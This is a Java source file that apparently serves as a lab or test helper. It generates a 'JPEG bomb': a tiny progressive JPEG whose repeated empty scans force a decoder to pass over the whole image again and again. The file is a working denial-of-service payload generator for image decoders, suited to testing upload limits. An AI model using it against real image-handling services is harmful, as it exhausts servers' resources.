package dev.tandem.hil.lab.sharing;

import java.io.ByteArrayOutputStream;

/**
 * A progressive JPEG in grey whose scans say nothing: each walks over all blocks in runs of empty ones, which takes the
 * reader a pass over the whole picture for some 90 bytes (ITU T.81, annexes B, F and G).
 */
final class JpegBomb {
    /** The symbol that begins the longest run: EOB14, with 14 bits behind it. */
    private static final int LONGEST_RUN_SYMBOL = 0xE0;
    private static final int LONGEST_RUN = (1 << 15) - 1;
    private static final int RUN_BITS = 14;

    private final ByteArrayOutputStream out = new ByteArrayOutputStream();
    private int bits;
    private int held;

    private JpegBomb() {
    }

    /** The file. */
    static byte[] make(int width, int height, int scans) {
        JpegBomb bomb = new JpegBomb();
        int blocks = (width + 7) / 8 * ((height + 7) / 8);
        bomb.marker(0xD8);
        bomb.segment(0xDB, table(0, 1, 64));
        bomb.segment(0xC2, new int[]{8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0});
        bomb.segment(0xC4, code(0x00, 0)); // DC: one symbol, a difference of no bits
        bomb.segment(0xC4, code(0x10, LONGEST_RUN_SYMBOL));
        bomb.scan(0, 0);
        bomb.zeros(blocks);
        for (int i = 0; i < scans; i++) {
            bomb.scan(1, 63);
            bomb.runs(blocks);
        }
        bomb.marker(0xD9);
        return bomb.out.toByteArray();
    }

    private static int[] table(int id, int value, int count) {
        int[] table = new int[1 + count];
        java.util.Arrays.fill(table, value);
        table[0] = id;
        return table;
    }

    /** A Huffman table with one code, a single 0. */
    private static int[] code(int id, int symbol) {
        int[] code = new int[1 + 16 + 1];
        code[0] = id;
        code[1] = 1;
        code[17] = symbol;
        return code;
    }

    private void scan(int first, int last) {
        segment(0xDA, new int[]{1, 1, 0x00, first, last, 0});
    }

    private void zeros(int count) {
        for (int i = 0; i < count; i++) {
            bits(0, 1);
        }
        flush();
    }

    private void runs(int blocks) {
        for (int left = blocks; left > 0; left -= LONGEST_RUN) {
            bits(0, 1);
            bits(LONGEST_RUN & (1 << RUN_BITS) - 1, RUN_BITS);
        }
        flush();
    }

    private void bits(int value, int count) {
        for (int i = count - 1; i >= 0; i--) {
            held = held << 1 | value >> i & 1;
            if (++bits == 8) {
                put(held & 255);
                bits = 0;
            }
        }
    }

    private void flush() {
        while (bits != 0) {
            bits(1, 1);
        }
    }

    private void put(int coded) {
        out.write(coded);
        if (coded == 0xFF) {
            out.write(0);
        }
    }

    private void marker(int code) {
        out.write(0xFF);
        out.write(code);
    }

    private void segment(int code, int[] content) {
        marker(code);
        out.write(content.length + 2 >> 8);
        out.write(content.length + 2 & 255);
        for (int each : content) {
            out.write(each);
        }
    }
}
